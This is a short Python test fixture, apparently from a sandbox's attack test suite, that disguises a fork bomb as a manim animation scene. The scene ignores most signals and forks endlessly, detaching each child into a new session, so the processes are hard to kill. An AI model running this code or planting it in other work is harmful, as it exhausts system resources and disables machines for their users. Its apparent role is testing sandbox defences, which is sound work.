# attack: a fork bomb that no refusal discourages; run by tests/attacks
import os
import signal

from manim import *


class Stubborn(Scene):
    def construct(self):
        tell("bomb", "done")
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except BaseException:
                pass
